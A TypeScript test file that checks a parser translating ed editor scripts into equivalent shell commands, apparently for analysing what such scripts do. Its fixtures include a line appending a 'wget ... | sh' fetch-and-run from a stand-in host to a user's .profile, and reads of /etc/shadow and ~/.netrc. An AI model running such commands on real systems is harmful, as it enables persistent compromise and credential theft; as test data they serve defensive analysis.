// ed's commands: text lines after a/i/c are text, not commands, and a write
// carries that text into the file it writes — the named one, or the current
// file (`f FILE`, which the interpreter puts first for `ed FILE`).
import { describe, expect, test } from "bun:test";
import { readEd } from "../../../../src/shell/languages/ed.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const lines = (script: string): string[] => readEd(script).lines.map((line) => line.line);

describe("ed scripts", () => {
  test("appended text is written into the current file", () => {
    expect(lines("f /home/ada/.profile\n$a\nwget -qO- https://x.example/i | sh\n.\nw\nq")).toEqual(["printf '%s\\n' 'wget -qO- https://x.example/i | sh' >> /home/ada/.profile"]);
  });

  test("text lines are never read as commands", () => {
    expect(lines("f notes.md\na\nr /etc/shadow\nw /tmp/out\n!id\n.\nwq")).toEqual(["printf '%s\\n' 'r /etc/shadow' 'w /tmp/out' '!id' >> notes.md"]);
  });

  test("a write with nothing added writes the file as it is", () => {
    expect(lines("f src/app.c\n,s/foo/bar/g\nw\nq")).toEqual([": > src/app.c"]);
  });

  test("a named write, e and r read files, ! runs a command", () => {
    expect(lines("e ~/.netrc\n1,$w /tmp/copy\nr !date\n!ls")).toEqual(["cat -- ~/.netrc", ": > /tmp/copy", "date", "ls"]);
  });

  test("without a current file a bare write names nothing", () => {
    expect(lines("a\nhello\n.\nw")).toEqual([]);
  });
});
